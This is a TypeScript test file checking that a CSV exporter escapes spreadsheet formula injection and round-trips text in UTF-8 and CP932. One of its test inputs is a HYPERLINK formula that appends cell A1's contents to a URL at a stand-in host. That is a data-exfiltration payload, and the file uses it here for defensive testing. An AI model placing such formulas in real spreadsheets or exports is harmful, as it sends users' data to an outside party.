import fc from 'fast-check';
import iconv from 'iconv-lite';
import { parse } from 'csv-parse/sync';
import { csvLine, escapeFormula, unescapeFormula } from '../../domain/exchange/csv';
import { runs } from '../property/runs';

const cellsOf = (line: string) => (parse(line, { relax_column_count: true }) as string[][])[0]!;

it.each([
  '=1+1',
  '=HYPERLINK("http://x.example/?"&A1,"ここ")',
  '+81 90',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝１＋１',
  '＋１',
  '－１',
  '＠ＳＵＭ',
  "'=1",
  "''=1",
  ' =1+1',
  '　＝1+1',
  "' =1",
  ' \t -2+3',
])('%j runs in no spreadsheet and comes back as it was, in UTF-8 and in CP932', (text) => {
  const line = csvLine(['a', text, 'b']);
  for (const encoded of [line, iconv.decode(iconv.encode(line, 'cp932'), 'cp932')]) {
    const [, cell, after] = cellsOf(encoded);
    expect(cell).toMatch(/^'/);
    expect([unescapeFormula(cell!), after]).toEqual([text, 'b']);
  }
});

it.each(['\u00a0=1', '\ufeff=1', '\u200b@SUM(A1)', '\u2003+1', '\u0000=1'])(
  '%j runs in no spreadsheet either',
  (text) => {
    const [cell] = cellsOf(csvLine([text, 'b']));
    expect([cell, unescapeFormula(cell!)]).toEqual([`'${text}`, text]);
  },
);

it.each(['山田', "O'Neill", "'quoted'", '', 'a=b', '1-2-3', ' 1', ' a = b'])('%j stays as it is', (text) => {
  expect(escapeFormula(text)).toBe(text);
  expect(unescapeFormula(text)).toBe(text);
});

it('numbers stay numbers, also below zero', () => {
  expect(csvLine([-5, 0, null])).toBe('-5,0,\r\n');
});

it('every text comes back as it was, and none begins as a formula', () => {
  const sign = fc.constantFrom(...'=+-@\t\r\n＝＋－＠\'"', ',', 'a', '髙', ' ');
  const text = fc.oneof(fc.string({ unit: sign, maxLength: 8 }), fc.string({ unit: 'binary', maxLength: 12 }));
  fc.assert(
    fc.property(fc.array(text, { minLength: 2, maxLength: 4 }), (texts) => {
      const cells = cellsOf(csvLine(texts));
      expect(cells.map(unescapeFormula)).toEqual(texts);
      for (const cell of cells) expect(cell).not.toMatch(/^(?:[\t\r\n]|[\s\p{C}]*[=+\-@＝＋－＠])/u);
    }),
    runs(300),
  );
});
